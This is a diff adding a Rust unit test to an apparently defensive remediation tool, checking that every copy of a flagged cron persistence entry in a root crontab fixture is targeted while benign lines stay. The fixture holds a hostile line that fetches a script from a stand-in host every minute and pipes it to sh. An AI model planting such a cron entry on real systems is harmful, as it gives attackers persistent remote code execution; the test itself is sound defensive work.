@@ -701,6 +701,21 @@ mod tests {
     }
 
     #[test]
+    fn every_copy_of_a_flagged_line_goes_other_lines_stay() {
+        let tab = b"17 3 * * * /usr/local/sbin/backup.sh\n* * * * * curl -s http://x/a.sh | sh\n5 4 * * * /bin/true\n* * * * * curl -s http://x/a.sh | sh\n";
+        let model = fixture::model(
+            vec![fixture::file(b"/var/spool/cron/crontabs/root", Some(tab))],
+            vec![],
+        );
+        let f = finding(&crate::detect::rules::PER_001, Severity::High).subject(
+            persistence_subject(&RawBytes::from(&b"/var/spool/cron/crontabs/root"[..]), 2),
+        );
+        let plan = plan_of(model, doc(vec![f]));
+        let numbers: Vec<u32> = line_gates(&plan).into_iter().map(|(n, _)| n).collect();
+        assert_eq!(numbers, vec![2, 4], "{:?}", plan.items);
+    }
+
+    #[test]
     fn nothing_is_acted_on_through_a_bind_mount_or_a_system_files_other_name() {
         use minetrace_schemas::records::mount::MountRecord;
         let mut model = fixture::model(
